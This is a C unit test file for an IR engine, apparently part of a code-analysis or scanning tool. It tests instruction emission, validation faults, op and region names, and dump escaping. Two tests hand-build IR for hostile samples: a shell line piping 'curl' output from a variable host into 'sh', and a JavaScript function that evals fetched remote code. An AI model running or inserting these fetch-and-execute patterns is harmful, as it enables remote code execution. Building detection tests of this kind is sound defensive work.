/* SPDX-License-Identifier: Apache-2.0 */
#include "engine/ir/ir.h"
#include "ir_check.h"
#include "tap.h"

static uint32_t str(tw_ir *ir, const char *z)
{
    return tw_intern(&ir->strings, tw_str_c(z));
}
static uint32_t text(tw_ir *ir, const char *z)
{
    return tw_ir_emit(ir, TW_OP_CONST, TW_CONST_STR, 0, str(ir, z), 0, 0, 0, 0);
}
static uint32_t call(tw_ir *ir, uint32_t callee, uint16_t flags, const tw_arg *args, uint32_t n)
{
    return tw_ir_emit(ir, TW_OP_CALL, 0, flags, callee, 0, tw_ir_args(ir, args, n), 0, 0);
}
static uint32_t module(tw_ir *ir, tw_arena *a, tw_lang lang)
{
    tw_ir_init(ir, a, lang, TW_S("source"));
    TW_PUSH(a, ir->scopes, (tw_scope){.kind = TW_REGION_MODULE, .enter = 1});
    return tw_ir_emit(ir, TW_OP_ENTER, TW_REGION_MODULE, 0, 0, 0, 0, 0, 0);
}
static tw_str dump(const tw_ir *ir, tw_buf *out)
{
    tw_ir_dump(ir, out);
    tw_str s = tw_buf_str(out);
    size_t at = tw_str_find(s, TW_S("     1 enter"));
    return tw_str_sub(s, at, s.n);
}

TEST(value_zero_and_no_args)
{
    tw_arena *a = tw_arena_new(0);
    tw_ir ir;
    tw_ir_init(&ir, a, TW_LANG_PYTHON, TW_S("x"));
    CHECK_INT(ir.insns.n, 1);
    CHECK_INT(ir.insns.v[0].op, TW_OP_NOP);
    CHECK_INT(tw_ir_args(&ir, NULL, 0), 0);
    tw_arg two[2] = {{0, 0}, {0, TW_ARG_SPREAD}};
    uint32_t at = tw_ir_args(&ir, two, 2);
    CHECK(at > 0);
    CHECK_INT(ir.args.v[at].value, 2);
    CHECK_INT(ir.args.v[at + 2].name, TW_ARG_SPREAD);
    CHECK_INT(tw_ir_emit(&ir, TW_OP_READ, 0, 0, str(&ir, "x"), 0, 0, 0, 1), 1);
    CHECK(!ir_wrong(&ir));
    tw_arena_free(a);
}

TEST(every_op_has_a_name_and_every_region)
{
    for (unsigned i = 0; i < TW_OP_MAX; i++) CHECK(tw_op_name((tw_op)i)[0]);
    CHECK_STR(tw_str_c(tw_op_name(TW_OP_OPAQUE)), TW_S("opaque"));
    CHECK_STR(tw_str_c(tw_region_name(TW_REGION_TYPE_CHECKING)), TW_S("type-checking"));
    CHECK_STR(tw_str_c(tw_region_name(TW_REGION_MATCH)), TW_S("match"));
    CHECK_STR(tw_str_c(tw_region_name(TW_REGION_MAX)), TW_S("unknown"));
    CHECK_STR(tw_str_c(tw_lang_name(TW_LANG_POWERSHELL)), TW_S("powershell"));
}

TEST(ir_check_sees_faults)
{
    tw_arena *a = tw_arena_new(0);
    tw_ir ir;
    module(&ir, a, TW_LANG_PYTHON);
    CHECK_STR(tw_str_c(ir_wrong(&ir)), TW_S("a region stays open"));
    tw_ir_emit(&ir, TW_OP_MEMBER, 0, 0, 9, 0, 0, 0, 0);
    CHECK_STR(tw_str_c(ir_wrong(&ir)), TW_S("a value is out of range"));
    tw_arena_free(a);
}

/* curl -s "https://$HOST/x" | sh > /dev/null: what is piped in is a keyword argument. */
TEST(shell_line_by_hand)
{
    tw_arena *a = tw_arena_new(0);
    tw_buf out = TW_BUF_INIT;
    tw_ir ir;
    uint32_t enter = module(&ir, a, TW_LANG_SHELL);
    uint32_t curl = text(&ir, "curl"), s = text(&ir, "-s"), pre = text(&ir, "https://");
    uint32_t host = tw_ir_emit(&ir, TW_OP_READ, 0, 0, str(&ir, "HOST"), 0, 0, 0, 0), tail = text(&ir, "/x");
    tw_arg parts[3] = {{pre, 0}, {host, 0}, {tail, 0}};
    uint32_t url = tw_ir_emit(&ir, TW_OP_CONCAT, 0, 0, 0, 0, tw_ir_args(&ir, parts, 3), 0, 0);
    tw_arg words[2] = {{s, 0}, {url, 0}};
    uint32_t from = call(&ir, curl, TW_IF_COMMAND, words, 2),
             to = call(&ir, text(&ir, "sh"), TW_IF_COMMAND, &(tw_arg){from, str(&ir, "<stdin>")}, 1);
    tw_ir_emit(&ir, TW_OP_REDIRECT, 1, 0, to, text(&ir, "/dev/null"), 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_LEAVE, TW_REGION_MODULE, 0, enter, 0, 0, 0, 0);
    CHECK(!ir_wrong(&ir));
    CHECK_STR(dump(&ir, &out), TW_S("     1 enter module  @0+0\n"
                                    "     2   const str \"curl\"  @0+0\n"
                                    "     3   const str \"-s\"  @0+0\n"
                                    "     4   const str \"https://\"  @0+0\n"
                                    "     5   read \"HOST\"  @0+0\n"
                                    "     6   const str \"/x\"  @0+0\n"
                                    "     7   concat (%4, %5, %6)  @0+0\n"
                                    "     8   call %2 (%3, %7) +command  @0+0\n"
                                    "     9   const str \"sh\"  @0+0\n"
                                    "    10   call %9 (<stdin>=%8) +command  @0+0\n"
                                    "    11   const str \"/dev/null\"  @0+0\n"
                                    "    12   redirect level=1 %10 %11  @0+0\n"
                                    "    13 leave module %1  @0+0\n"));
    tw_buf_free(&out);
    tw_arena_free(a);
}

/* A second family: `export const f = async (u) => eval(await (await fetch(u)).text())` */
TEST(javascript_sample_by_hand)
{
    tw_arena *a = tw_arena_new(0);
    tw_buf out = TW_BUF_INIT;
    tw_ir ir;
    uint32_t enter = module(&ir, a, TW_LANG_JAVASCRIPT), u = str(&ir, "u");
    TW_PUSH(a, ir.params, (tw_param){u, 0});
    TW_PUSH(a, ir.scopes, (tw_scope){.kind = TW_REGION_LAMBDA, .flags = 1, .n_params = 1, .enter = 3});
    uint32_t f = tw_ir_emit(&ir, TW_OP_FUNC, 0, 0, 1, 0, 0, 0, 0);
    uint32_t body = tw_ir_emit(&ir, TW_OP_ENTER, TW_REGION_LAMBDA, 0, 0, 1, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_BIND, TW_BIND_PARAM, 0, u, 0, 0, 0, 0);
    uint32_t eval = tw_ir_emit(&ir, TW_OP_READ, 0, 0, str(&ir, "eval"), 0, 0, 0, 0);
    uint32_t fetch = tw_ir_emit(&ir, TW_OP_READ, 0, 0, str(&ir, "fetch"), 0, 0, 0, 0);
    tw_arg one = {tw_ir_emit(&ir, TW_OP_READ, 0, 0, u, 0, 0, 0, 0), 0};
    uint32_t got = tw_ir_emit(&ir, TW_OP_AWAIT, 0, 0, call(&ir, fetch, TW_IF_AWAIT, &one, 1), 0, 0, 0, 0);
    uint32_t txt =
        call(&ir, tw_ir_emit(&ir, TW_OP_MEMBER, 0, 0, got, str(&ir, "text"), 0, 0, 0), TW_IF_AWAIT, NULL, 0);
    one.value = tw_ir_emit(&ir, TW_OP_AWAIT, 0, 0, txt, 0, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_RETURN, 0, 0, call(&ir, eval, 0, &one, 1), 0, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_LEAVE, TW_REGION_LAMBDA, 0, body, 0, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_BIND, TW_BIND_ASSIGN, 0, str(&ir, "f"), f, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_EXPORT, 0, 0, str(&ir, "f"), f, 0, 0, 0);
    tw_ir_emit(&ir, TW_OP_LEAVE, TW_REGION_MODULE, 0, enter, 0, 0, 0, 0);
    CHECK(!ir_wrong(&ir));
    CHECK(tw_str_find(dump(&ir, &out), TW_S("call %5 (%12)  @")) != TW_NPOS);
    tw_buf_free(&out);
    tw_arena_free(a);
}

TEST(dump_escapes_and_cuts_text)
{
    tw_arena *a = tw_arena_new(0);
    tw_buf out = TW_BUF_INIT;
    tw_ir ir;
    module(&ir, a, TW_LANG_PYTHON);
    char big[300];
    memset(big, 'a', sizeof big);
    memcpy(big, "\"\\\n\x1b\xff", 5);
    uint32_t s = tw_intern(&ir.strings, (tw_str){big, sizeof big});
    tw_ir_emit(&ir, TW_OP_CONST, TW_CONST_BYTES, 0, s, 0, 0, 0, 0);
    tw_str d = dump(&ir, &out);
    CHECK(tw_str_find(d, TW_S("const bytes \"\\\"\\\\\\n\\x1b\\xffaaa")) != TW_NPOS);
    CHECK(tw_str_find(d, TW_S("aa\"+100  @")) != TW_NPOS);
    tw_buf_free(&out);
    tw_arena_free(a);
}

TESTS_MAIN()
